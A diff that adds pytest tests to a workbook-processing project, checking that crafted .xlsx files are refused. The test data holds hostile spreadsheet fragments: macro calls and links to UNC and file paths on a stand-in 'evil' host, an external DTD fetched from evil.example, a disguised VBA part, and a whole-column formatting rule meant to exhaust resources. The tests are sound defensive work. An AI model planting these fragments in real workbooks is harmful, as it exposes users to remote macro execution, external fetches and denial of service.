@@ -30,6 +30,7 @@ from appraisal.workbook.patching.stale import Area, Names, stale_results
 from appraisal.workbook.reading.grids import Grid
 from appraisal.workbook.writing.pages import Formula
 from tests.workbook.builders import ChangePart, grids_of, in_part, repacked, small_book, write_grids, written
+from tests.workbook.habits import with_habits
 from tests.workbook.hostile import HOSTILE
 from tests.workbook.kept import lost
 from tests.workbook.schemas import unsound
@@ -426,3 +427,57 @@ def _as_read(content: Any) -> Any:
     if isinstance(content, dt.date):
         return dt.datetime.combine(content, dt.time())
     return content
+
+
+def test_a_formula_on_a_cell_with_a_conversation_is_refused_where_it_reaches_outside(tmp_path: Path) -> None:
+    made = with_habits(written(small_book(), tmp_path / "plain.xlsx"), tmp_path / "talk.xlsx", ["conversation"])
+    with zipfile.ZipFile(made) as archive:
+        owner = next(n for n in archive.namelist() if n.endswith(".rels") and b"threadedComment" in archive.read(n))
+        threads = next(name for name in archive.namelist() if "threadedComments/" in name)
+        (cell, *_) = re.findall(r' ref="([A-Z]+[0-9]+)"', archive.read(threads).decode())
+    sheet = owner.replace("_rels/", "").removesuffix(".rels")
+
+    def reaching(name: str, content: bytes) -> bytes:
+        formula = f"<c r=\"{cell}\"><f>'[other.xlsx]Rates'!A1</f><v>2</v></c>".encode()
+        return (
+            re.sub(rf'<c [^>]*r="{cell}"(?:[^>]*/>|.*?</c>)'.encode(), formula, content) if name == sheet else content
+        )
+
+    source = repacked(made, tmp_path / "mine.xlsx", reaching)
+    with pytest.raises(InputFaults, match="has a conversation"):
+        add_sheets(source, ["gates"], tmp_path / "copy.xlsx")
+
+
+ELSEWHERE: tuple[tuple[str, str, bytes], ...] = (
+    ("a picture", "xl/drawings/drawing9.xml", rb"""<a macro="'\\evil\x.xlsm'!Run"/>"""),
+    ("a pivot table", "xl/pivotCache/pivotCacheDefinition1.xml", rb"""<a sheet="\\evil\[x.xlsx]S"/>"""),
+    ("a menu", "customUI/customUI.xml", rb"""<a onLoad="'\\evil\x.xlsm'!Go"/>"""),
+    ("a box", "xl/drawings/vmlDrawing9.vml", b'<a href="file://evil/x"/>'),
+    ("properties", "docProps/custom.xml", b'<!DOCTYPE c SYSTEM "http://evil.example/x.dtd"><c/>'),
+    (
+        "macros under another name",
+        "xl/_rels/other.xml.rels",
+        b'<Relationships><Relationship Id="a" Type="x/vbaProject" Target="x.dat"/></Relationships>',
+    ),
+)
+
+
+@pytest.mark.parametrize(("part", "content"), [case[1:] for case in ELSEWHERE], ids=[case[0] for case in ELSEWHERE])
+def test_a_part_beside_the_cells_that_leads_outside_is_refused(part: str, content: bytes, tmp_path: Path) -> None:
+    good = write_grids(grids_of(small_book()), tmp_path / "good.xlsx")
+    source = repacked(good, tmp_path / "mine.xlsx", lambda _, whole: whole, ((part, content),))
+    with pytest.raises(InputFaults, match=r"leads outside|document type|has macros"):
+        add_sheets(source, ["gates"], tmp_path / "copy.xlsx")
+    assert not (tmp_path / "copy.xlsx").exists()
+
+
+def test_a_forged_mark_over_whole_columns_takes_no_time(tmp_path: Path) -> None:
+    good = write_grids(grids_of(small_book()), tmp_path / "good.xlsx")
+    areas = " ".join(["A1:A1048576"] * 800)
+    rule = (
+        f'</sheetData><conditionalFormatting sqref="{areas}"><cfRule type="expression" priority="1">'
+        '<formula>N("options-appraisal-check")=0</formula></cfRule></conditionalFormatting>'
+    )
+    source = repacked(good, tmp_path / "mine.xlsx", in_part("xl/worksheets/sheet2.xml", b"</sheetData>", rule.encode()))
+    write_marked(source, tmp_path / "marked.xlsx")
+    assert unsound(tmp_path / "marked.xlsx") == []
